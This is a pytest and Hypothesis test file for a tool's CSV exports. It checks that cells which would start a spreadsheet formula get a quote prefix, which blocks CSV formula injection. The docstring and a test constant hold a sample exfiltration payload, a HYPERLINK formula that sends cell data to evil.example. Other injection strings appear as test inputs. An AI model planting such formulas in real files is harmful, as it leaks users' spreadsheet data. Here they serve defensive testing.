"""N18 (review of 2026-12-02): CSV exports wrote cells that start with ``=`` or ``@`` as they were, and a
spreadsheet that opens them runs the formula (``=HYPERLINK("http://evil.example/?"&A1, …)`` sends the
sheet's data away). Every CSV cell now goes through ``present.text.csv_cell``: text that would start a
formula gets a leading ``'``, as spreadsheet exports do, and numbers, negative ones too, stay numbers."""

from __future__ import annotations

import csv
import io
import math
from pathlib import Path

import pytest
from hypothesis import given, settings, strategies as st
from typer.testing import CliRunner

from kubebench.cli import app
from kubebench.present.text import FORMULA_START, csv_cell
from kubebench.store.store import open_store
from kubebench.testing.series import store_experiment

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
TEXT = st.lists(st.one_of(st.characters(), st.sampled_from(["=", "+", "-", "@", "\t", "\r", "1", ".", "e"])),
                max_size=12).map("".join)


def _number(text: str) -> bool:
    try:
        return math.isfinite(float(text)) and text.strip() == text and "_" not in text and \
            not text.lower().lstrip("+-").startswith(("inf", "nan"))
    except ValueError:
        return False


@settings(max_examples=500, deadline=None)
@given(TEXT)
def test_no_text_cell_starts_a_formula_unless_it_is_a_number(text: str) -> None:
    shown = str(csv_cell(text))
    assert not shown.startswith(FORMULA_START) or _number(shown)
    assert shown.removeprefix("'") == csv_cell(shown.removeprefix("'")).removeprefix("'")  # type: ignore[union-attr]


@given(st.one_of(st.integers(), st.floats(allow_nan=False, allow_infinity=False), st.booleans()))
def test_numbers_stay_numbers(value: object) -> None:
    assert csv_cell(value) is value
    if not isinstance(value, bool):
        assert csv_cell(str(value)) == str(value)  # "-3" written as text is the number −3 too


def test_what_a_spreadsheet_would_parse_as_an_expression_is_marked() -> None:
    assert [csv_cell(v) for v in ("-2+3", "@SUM(A1)", "+cmd", float("-inf"), "\tx")] == [
        "'-2+3", "'@SUM(A1)", "'+cmd", "'-inf", "'\tx"]


@pytest.fixture
def injected(home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    url = f"sqlite:///{home / 'kb.db'}"
    monkeypatch.setenv("KUBEBENCH_STORE", url)
    store = open_store(url)
    for i in range(3):
        store_experiment(store, f"c-{i}", "csv", {"x": [[-1.0, -1.1, -0.9]]}, [{"p": FORMULA, "n": -3}],
                         created_at=1e9 + i, labels={"@SUM(A1)": "=1+1"})  # a labels cell starts with @
    store.engine.dispose()


@pytest.mark.parametrize("args", [["results", "c-2", "-f", "csv"], ["history", "csv", "-f", "csv"],
                                  ["experiments", "-f", "csv"]])
def test_every_csv_export_is_safe_in_a_spreadsheet(injected: None, args: list[str]) -> None:
    result = CliRunner().invoke(app, args)
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(result.stdout)))
    cells = [c for row in rows[1:] for c in row]
    assert all(not c.startswith(FORMULA_START) or _number(c) for c in cells), cells
    if args[0] == "results":
        header = rows[0]
        assert rows[1][header.index("param.p")] == "'" + FORMULA
        assert rows[1][header.index("param.n")] == "-3" and rows[1][header.index("metric.x")] == "-1.0"
